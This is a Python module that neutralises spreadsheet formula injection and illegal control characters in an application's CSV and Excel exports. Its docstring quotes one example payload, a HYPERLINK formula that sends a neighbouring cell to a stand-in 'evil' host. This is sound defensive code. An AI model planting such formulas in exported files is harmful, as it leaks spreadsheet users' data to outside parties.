"""Cells for exported spreadsheets that cannot carry a payload: one sanitizer for every export.

Every CSV and Excel file DataChat writes (the audit log's exports, an answer's export, their
header rows, which may hold a `/query/` column alias) passes its cells through here, because
their text comes from people: a question, an SQL alias, a data value.

- Formula injection (OWASP "CSV injection"): a text cell starting with `=`, `+`, `-`, `@`, a tab
  or a carriage return would be run as a formula by a spreadsheet (`=HYPERLINK("http://evil/?"
  &A2)` sends the neighbouring cell away on a click). In CSV such a cell gets a leading single
  quote; in Excel it is stored as text with Excel's own quote prefix (what Excel records when
  someone types `'=…`): the text reads back unchanged, typed as text, and is never evaluated.
  Only text is neutralised: a real number stays a number, so `-2` exports as the number -2.
- Control characters XML cannot hold (everything below 0x20 except tab, LF and CR): openpyxl
  refuses them (`IllegalCharacterError`), so they are written as a visible escape (`\\x1b`),
  in CSV too, and the evidence that a question carried them survives in an audit export.

Pure Python (openpyxl imported only where an Excel cell is built); no Django.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_MAX_TEXT = 32_767  # characters Excel holds in one cell
_ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read this text as the start of a formula."""
    return text.startswith(FORMULA_PREFIXES)


def clean_text(text: str) -> str:
    """`text` with the control characters an .xlsx file cannot hold written as `\\xNN`."""
    return _ILLEGAL_CHARACTERS.sub(lambda match: f"\\x{ord(match.group()):02x}", text)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: text cleaned and, when formula-like, behind a single quote;
    numbers, dates and everything else unchanged (the csv writer formats them)."""
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    return "'" + text if formula_like(text) else text


def csv_row(values: Any) -> list[Any]:
    """Every cell of a row (header rows too) through `csv_cell`."""
    return [csv_cell(value) for value in values]


def xlsx_cell(sheet: Any, value: Any, *, font: Any = None, number_format: str | None = None) -> Any:
    """An openpyxl cell for `sheet` (write-only or not): text is cleaned, cut to Excel's limit
    and typed as text (never a formula), with the quote prefix when formula-like; numbers,
    dates and booleans keep their type."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        text = clean_text(value)[:XLSX_MAX_TEXT]
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"  # openpyxl would store "=…" as a formula
        if formula_like(text):
            cell.quotePrefix = True
    else:
        cell = WriteOnlyCell(sheet, value=value)
    if font is not None:
        cell.font = font
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(sheet: Any, values: Any, *, font: Any = None) -> list[Any]:
    """Every cell of a row (header rows too) through `xlsx_cell`."""
    return [xlsx_cell(sheet, value, font=font) for value in values]
